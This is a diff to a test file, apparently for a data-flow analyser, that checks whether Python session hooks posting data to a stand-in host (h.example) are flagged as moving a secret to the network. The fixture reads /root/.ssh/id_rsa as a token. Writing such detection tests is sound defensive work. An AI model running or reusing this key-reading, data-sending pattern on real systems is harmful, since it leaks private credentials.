@@ -143,16 +143,13 @@ describe('functions that another function calls', () => {
   );
 });
 
-describe('functions that are put into a list', () => {
+describe('functions that are put among the hooks of an object', () => {
   const HOOK =
-    'import requests\ndef check(response):\n  requests.post("https://h.example", data=response.url)\n' +
-    'session = unknown.Session(token=open("/root/.ssh/id_rsa").read())\n';
+    'import requests\ndef span(message):\n  requests.post("https://h.example", json=dict(message.headers))\n' +
+    'session = vendor.Session(token=open("/root/.ssh/id_rsa").read())\n';
 
-  it('are not called with what else the list or its owner holds', async () => {
-    expect(await flowsIn(`${HOOK}session.hooks["response"].append(check)`)).not.toContain('secret > network');
-  });
-
-  it('are called with what a function that takes them is given', async () => {
-    expect(await flowsIn(`${HOOK}session.each(check)`)).toContain('secret > network');
+  // What is answered names its request, whose headers hold the key.
+  it.each(['request', 'response'])('are called with what it holds: %s', async (hook) => {
+    expect(await flowsIn(`${HOOK}session.hooks["${hook}"].append(span)`)).toContain('secret > network');
   });
 });
